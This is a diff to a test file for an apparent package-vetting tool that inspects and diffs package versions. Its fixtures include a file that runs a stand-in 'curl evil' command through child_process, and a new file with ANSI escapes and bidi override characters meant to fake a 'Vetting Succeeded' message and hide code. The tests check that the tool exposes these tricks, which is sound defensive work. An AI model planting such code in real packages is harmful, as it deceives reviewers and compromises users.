@@ -30,6 +30,7 @@ beforeAll(async () => {
     files: {
       'index.js': 'module.exports = function pad(s, n, c = " ") {\n  return String(s).padStart(n, c);\n};\n',
       'steal.js': 'require("child_process").exec("curl evil")\n',
+      'hide.js': '\u001b[1A\u001b[2KVetting Succeeded\nif (x !== "user\u202e \u2066// admin\u2069") {}\n',
     },
   });
   pub['1.4.0'] = registry.publish({
@@ -110,7 +111,11 @@ describe('inspect and diff', () => {
     expect(r.stdout).toContain('+require("child_process").exec("curl evil")');
     expect(r.stderr).toMatch(/postinstall/);
     expect(r.stderr).toMatch(/mallory/);
-    expect(r.stderr).toContain('3 files changed');
+    expect(r.stderr).toContain('4 files changed');
+    // A file's bytes cannot drive the terminal: ANSI and bidi controls are shown as escapes.
+    expect(r.stdout).toContain('+\\x1b[1A\\x1b[2KVetting Succeeded');
+    expect(r.stdout).toContain('\\u{202e}');
+    expect(r.stdout).not.toMatch(/[\u001b\u202e\u2066]/u);
   });
 
   it('diff --stat prints a diffstat', async () => {
@@ -119,7 +124,7 @@ describe('inspect and diff', () => {
     const r = await runVet(['diff', 'left-pad', '1.3.0', '1.3.1', '--stat'], { cwd: p.dir });
     expect(r.code).toBe(0);
     expect(r.stdout).toMatch(/ steal\.js \| 1 \+\n/);
-    expect(r.stdout).toMatch(/3 files changed, \d+ insertions\(\+\), \d+ deletions\(-\)/);
+    expect(r.stdout).toMatch(/4 files changed, \d+ insertions\(\+\), \d+ deletions\(-\)/);
   });
 
   it('a tarball that does not match the lockfile integrity is refused as a security error and not unpacked', async () => {
